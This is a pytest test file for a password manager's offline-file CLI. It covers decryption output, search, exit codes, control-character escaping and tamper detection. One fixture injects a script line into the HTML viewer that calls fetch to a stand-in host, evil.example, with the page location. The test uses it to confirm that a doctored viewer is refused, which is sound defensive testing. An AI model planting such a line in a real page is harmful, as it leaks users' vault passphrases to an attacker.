"""`strongroom open` in a subprocess: no server, database or configuration needed; a table
or JSON; search; exit codes 2 (wrong passphrase), 3 (damaged), 4 (unsupported)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyotp
import pytest

from strongroom.crypto.offline import OfflineEntry
from strongroom.exports.offline_file import offline_file_header

from .helpers import GENERATED_AT, HOSTILE, PASSPHRASE, build, cheap_keys, sample_entries


@pytest.fixture(scope="module")
def files(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("offline-cli")
    keys = cheap_keys()
    entries = sample_entries() + [
        OfflineEntry(
            name=f"hostile {kind}",
            username=value,
            password=value,
            url=value,
            folder=value,
            notes=value,
            description=value,
            custom_fields=(("Serial", f"SN-{kind}"), (value, value)),
        )
        for kind, value in HOSTILE.items()
    ]
    (folder / "copy.html").write_bytes(
        build(keys, entries, expires_at=datetime.now(UTC) + timedelta(days=3))
    )
    (folder / "expired.html").write_bytes(
        build(keys, sample_entries(), expires_at=GENERATED_AT + timedelta(days=1))
    )
    (folder / "single.html").write_bytes(build(keys, sample_entries()[:1]))
    (folder / "pass.txt").write_text(PASSPHRASE + "\nsecond line is ignored\n", encoding="utf-8")
    (folder / "wrong.txt").write_text("not it\n", encoding="utf-8")
    (folder / "empty.txt").write_text("", encoding="utf-8")
    html = (folder / "copy.html").read_bytes()
    header = offline_file_header(html)
    tampered = html.replace(header["generated_at"].encode(), b"2030-01-01T00:00:00Z", 1)
    (folder / "edited.html").write_bytes(tampered)
    (folder / "newer.html").write_bytes(html.replace(b'"version":4', b'"version":5', 1))
    (folder / "other.html").write_bytes(b"<html><body>not ours</body></html>")
    # The attack of the review: the viewer edited to post the passphrase elsewhere, the
    # data untouched (it still decrypts and authenticates).
    (folder / "phish.html").write_bytes(
        html.replace(b"<script>", b"<script>fetch('https://evil.example/?'+location);", 1)
    )
    (folder / "restyled.html").write_bytes(html.replace(b"<title>", b"<title>Urgent: ", 1))
    (folder / "trailing-space.txt").write_text(PASSPHRASE + " \n", encoding="utf-8")
    (folder / "crlf.txt").write_text(PASSPHRASE + "\r\nignored\r\n", encoding="utf-8")
    (folder / "cr-only.txt").write_text(PASSPHRASE + "\rignored", encoding="utf-8")
    return folder


def run(folder: Path, *args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
    # A bare environment and an empty working directory: `open` must not need (or create)
    # any Strongroom configuration, data directory or database.
    env = {"PATH": os.environ.get("PATH", ""), "PYTHONIOENCODING": "utf-8", "LANG": "C.UTF-8"}
    if os.environ.get("PYTHONPATH"):  # a worktree's own source tree first, as in the parent
        env["PYTHONPATH"] = os.environ["PYTHONPATH"]
    workdir = folder / "cwd"
    workdir.mkdir(exist_ok=True)
    done = subprocess.run(
        [sys.executable, "-m", "strongroom.cli", "open", *args],
        cwd=workdir,
        env=env,
        input=stdin,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        encoding="utf-8",
    )
    assert list(workdir.iterdir()) == [], "strongroom open created files"
    return done


def test_json_output_is_every_entry_exactly(files):
    done = run(
        files, str(files / "copy.html"), "--passphrase-file", str(files / "pass.txt"), "--json"
    )
    assert done.returncode == 0, done.stderr
    document = json.loads(done.stdout)
    assert document["integrity"] == "authenticated"
    assert document["title"] == "Acme IT" and document["owner"] == "alice"
    assert document["generated_at"] == "2025-03-14T09:26:53Z"
    assert document["expired"] is False
    assert document["entry_count"] == len(sample_entries()) + len(HOSTILE)
    first = document["entries"][0]
    expected = sample_entries()[0]
    assert first == {
        "name": expected.name,
        "username": expected.username,
        "password": expected.password,
        "resource_type": expected.resource_type,
        "host": expected.host,
        "url": expected.url,
        "notes": expected.notes,
        "totp_seed": expected.totp_seed,
        "folder": expected.folder,
        "department": expected.department,
        "location": expected.location,
        "updated_at": "2025-01-02T03:04:05Z",
        "description": expected.description,
        "custom_fields": [list(pair) for pair in expected.custom_fields],
        "attachments": [],
    }
    by_name = {e["name"]: e for e in document["entries"]}
    for kind, value in HOSTILE.items():
        entry = by_name[f"hostile {kind}"]
        assert entry["password"] == value and entry["notes"] == value and entry["url"] == value
    # Terminal control characters never reach the terminal raw, even in JSON.
    assert "\x1b" not in done.stdout and "\x9b" not in done.stdout and "\u202e" not in done.stdout


def test_search_filters_on_names_users_hosts_urls_and_folders_not_passwords(files):
    def names(*query: str) -> list[str]:
        done = run(
            files,
            str(files / "copy.html"),
            "--passphrase-file",
            str(files / "pass.txt"),
            "--json",
            "--search",
            *query,
        )
        assert done.returncode == 0, done.stderr
        document = json.loads(done.stdout)
        assert document["match_count"] == len(document["entries"])
        return [e["name"] for e in document["entries"]]

    assert names("ROUTER") == ["Core router"]
    assert names("svc_payroll") == ["Payroll DB"]
    assert names("rt1.acme") == ["Core router"]
    assert names("infrastructure/network") == ["Core router"]
    assert names("mail example") == ["Mail"]
    assert names("sn-emoji") == ["hostile emoji"]  # custom fields are searched
    assert names("S3cr3t") == []  # a password is never searched
    assert names("Rack") == []  # nor are notes


def test_table_output_counts_one_entry_in_the_singular(files):
    done = run(files, str(files / "single.html"), "--passphrase-file", "-", stdin=PASSPHRASE)
    assert done.returncode == 0, done.stderr
    assert "authenticated: built by this copy's Strongroom server, unchanged since: 1 entry\n" in (
        done.stdout
    )


def test_table_output_with_totp_codes_and_escaped_controls(files):
    done = run(files, str(files / "copy.html"), "--passphrase-file", "-", stdin=PASSPHRASE + "\n")
    assert done.returncode == 0, done.stderr
    out = done.stdout
    assert (
        "authenticated: built by this copy's Strongroom server, unchanged since: 14 entries" in out
    )
    assert "Core router" in out and "S3cr3t<&>'\"!" in out
    codes = {
        pyotp.TOTP("JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP").at(datetime.now(UTC) + timedelta(seconds=s))
        for s in (-30, 0, 30)
    }
    router = next(line for line in out.splitlines() if line.startswith("Core router"))
    assert router.split()[-1] in codes
    assert "\x1b" not in out and "\x00" not in out and "\u202e" not in out
    assert "\\u001b[2J" in out  # shown, escaped


def test_search_in_table_mode(files):
    done = run(
        files,
        str(files / "copy.html"),
        "--passphrase-file",
        str(files / "pass.txt"),
        "--search",
        "payroll",
    )
    assert done.returncode == 0
    body = done.stdout.split("\n\n", 1)[1].splitlines()
    assert len(body) == 2 and body[1].startswith("Payroll DB")
    assert "1 matching 'payroll'" in done.stdout


def test_expired_copy_opens_with_a_warning(files):
    done = run(files, str(files / "expired.html"), "--passphrase-file", str(files / "pass.txt"))
    assert done.returncode == 0
    assert "(EXPIRED)" in done.stdout
    assert "past its advisory expiry date" in done.stderr


@pytest.mark.parametrize(
    ("name", "passfile", "code", "message"),
    [
        ("copy.html", "wrong.txt", 2, "wrong passphrase"),
        ("edited.html", "pass.txt", 3, "damaged or was edited"),
        ("newer.html", "pass.txt", 4, "version 5"),
        ("phish.html", "pass.txt", 5, "viewer is not Strongroom's: do not open it in a browser"),
        ("restyled.html", "pass.txt", 5, "viewer is not Strongroom's"),
        # Only the line end is taken off: a trailing space is part of the passphrase, and
        # a lone CR is not a line end.
        ("copy.html", "trailing-space.txt", 2, "wrong passphrase"),
        ("copy.html", "cr-only.txt", 2, "wrong passphrase"),
        ("other.html", "pass.txt", 4, "not a Strongroom offline file"),
        ("missing.html", "pass.txt", 1, "cannot read"),
        ("copy.html", "empty.txt", 1, "passphrase file is empty"),
        ("copy.html", "missing.txt", 1, "cannot read the passphrase file"),
    ],
)
def test_failures_have_distinct_exit_codes_and_print_no_entries(
    files, name, passfile, code, message
):
    done = run(files, str(files / name), "--passphrase-file", str(files / passfile), "--json")
    assert done.returncode == code, (done.stdout, done.stderr)
    assert message in done.stderr
    assert done.stdout == ""


def test_a_crlf_passphrase_file_opens(files):
    done = run(files, str(files / "copy.html"), "--passphrase-file", str(files / "crlf.txt"))
    assert done.returncode == 0, done.stderr


def test_the_foreign_viewer_is_refused_before_the_passphrase_is_asked_for(files):
    # No passphrase file and no terminal: the page is judged first, so the answer is about
    # the viewer, not about the missing passphrase.
    done = run(files, str(files / "phish.html"))
    assert done.returncode == 5, done.stderr
    assert "do not open it in a browser" in done.stderr


def test_no_passphrase_file_and_no_terminal_is_refused(files):
    done = run(files, str(files / "copy.html"))
    assert done.returncode == 1
    assert "--passphrase-file" in done.stderr


V1_RELEASED = Path(__file__).resolve().parent / "fixtures" / "v1-released-viewer.html"


def test_a_version_1_file_from_the_released_viewer_opens_with_a_warning(tmp_path):
    """The worked version 1 example inside the page of the last released version 1 viewer
    (tests/offline/fixtures): its viewer is on the released list; it opens, marked."""
    (tmp_path / "pass.txt").write_text("correct horse battery staple\n", encoding="utf-8")
    done = run(tmp_path, str(V1_RELEASED), "--passphrase-file", str(tmp_path / "pass.txt"))
    assert done.returncode == 0, done.stderr
    assert "not authenticated against forgery" in done.stderr and "re-export" in done.stderr
    assert "VERSION 1 FILE: decrypted but not authenticated against forgery" in done.stdout
    assert "Example server" in done.stdout
    as_json = run(
        tmp_path, str(V1_RELEASED), "--passphrase-file", str(tmp_path / "pass.txt"), "--json"
    )
    assert json.loads(as_json.stdout)["integrity"] == "unauthenticated_version_1"


def test_a_future_made_date_is_flagged(tmp_path):
    keys = cheap_keys()
    path = tmp_path / "future.html"
    path.write_bytes(
        build(keys, sample_entries(), generated_at=datetime.now(UTC) + timedelta(hours=2))
    )
    (tmp_path / "pass.txt").write_text(PASSPHRASE, encoding="utf-8")
    done = run(tmp_path, str(path), "--passphrase-file", str(tmp_path / "pass.txt"))
    assert done.returncode == 0, done.stderr
    assert "claims to be made in the future" in done.stderr
